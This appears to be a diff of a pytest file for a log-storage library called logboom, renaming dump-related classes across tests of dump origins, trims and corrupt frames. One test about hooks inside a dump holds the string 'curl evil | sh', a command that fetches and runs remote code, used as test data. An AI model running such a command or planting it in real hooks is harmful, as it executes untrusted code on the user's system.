@@ -14,11 +14,11 @@ from logboom.storage.files.disk import replace_file
 from logboom.storage.health.check import check
 from logboom.storage.moving import stream
 from logboom.storage.moving.load import load
-from logboom.storage.moving.origin import Origin
+from logboom.storage.moving.origin import DumpOrigin
 from logboom.storage.moving.outline import Request
 from logboom.storage.moving.reappend import AppendLoader
 from logboom.storage.moving.restore import EqualLoader
-from logboom.storage.moving.stream import FrameWriter
+from logboom.storage.moving.stream import DumpFrameWriter
 from logboom.storage.tail import Floor
 from simulation.disk import SimulatedDisk
 from simulation.dumps import (
@@ -198,7 +198,7 @@ def test_what_no_topic_accounts_for_stops_a_dump_of_everything() -> None:
         with open_data(disk) as opened, pytest.raises(DirectoryUnusable, match=r"logboom doctor"):
             dumped(opened)
         with pytest.raises(DirectoryUnusable, match=r"topics/[tu]~.* no topic accounts for"):
-            dump_of(Origin.beside("/data", disk))
+            dump_of(DumpOrigin.beside("/data", disk))
         with open_data(disk) as opened:
             assert read_all(dumped(opened, Request(("u",)))).totals.records == 3
     replace_file(disk, path, sound)
@@ -215,7 +215,7 @@ def test_a_log_that_is_gone_beside_a_writer_is_not_taken_for_one_never_begun() -
     disk = simulated(data)
     remove_tree(disk, log.directory)
     with pytest.raises(DirectoryUnusable, match="do not belong together"):
-        dump_of(Origin.beside("/data", disk))
+        dump_of(DumpOrigin.beside("/data", disk))
 
 
 def test_a_log_that_the_state_file_does_not_know_beside_a_writer_is_not_left_out() -> None:
@@ -226,9 +226,9 @@ def test_a_log_that_the_state_file_does_not_know_beside_a_writer_is_not_left_out
     disk.unlink("/data/state")
     data = open_data(disk)
     with pytest.raises(DirectoryUnusable, match="do not belong together"):
-        dump_of(Origin.beside("/data", disk))
+        dump_of(DumpOrigin.beside("/data", disk))
     data.open_topic("t")
-    assert dump_of(Origin.beside("/data", disk))[1].records == 3
+    assert dump_of(DumpOrigin.beside("/data", disk))[1].records == 3
 
 
 def test_a_topic_that_was_never_opened_is_dumped_without_beginning_its_logs() -> None:
@@ -256,7 +256,7 @@ def test_a_hook_in_a_dump_is_taken_over_and_told() -> None:
     assert read.hook == "curl evil | sh"
 
 
-def _source(content: bytes) -> stream.Source:
+def _source(content: bytes) -> stream.DumpSource:
     return io.BytesIO(content)
 
 
@@ -298,13 +298,13 @@ def test_a_dump_that_ends_with_a_trim_says_why_it_cannot_go_on_beside_a_writer()
     trim(log, 1)
     content = dumped(data)
     with pytest.raises(DumpMismatch, match="ends with a trim"):
-        gone_on_with(Origin.beside("/data", simulated(data)), content[:-300])
+        gone_on_with(DumpOrigin.beside("/data", simulated(data)), content[:-300])
 
 
 @pytest.mark.parametrize("payload", [b"\x81\xa7creator\xa2\xff\xfe", b"\x91" * 200_000])
 def test_what_cannot_be_decoded_is_a_damaged_dump(payload: bytes) -> None:
     sink = io.BytesIO()
-    with FrameWriter(sink, 0) as frames:
+    with DumpFrameWriter(sink, 0) as frames:
         frames.put(stream.HEAD, payload)
         frames.flush()
     with pytest.raises((DumpCorrupt, DumpUnsupported)):
@@ -313,7 +313,7 @@ def test_what_cannot_be_decoded_is_a_damaged_dump(payload: bytes) -> None:
 
 def test_an_outline_that_is_too_large_is_refused_before_it_is_decoded() -> None:
     sink = io.BytesIO()
-    with FrameWriter(sink, 1) as frames:
+    with DumpFrameWriter(sink, 1) as frames:
         frames.put(stream.HEAD, bytes(stream.OUTLINE_MAX + 1))
         frames.flush()
     with pytest.raises(DumpCorrupt, match="a frame cannot have"):
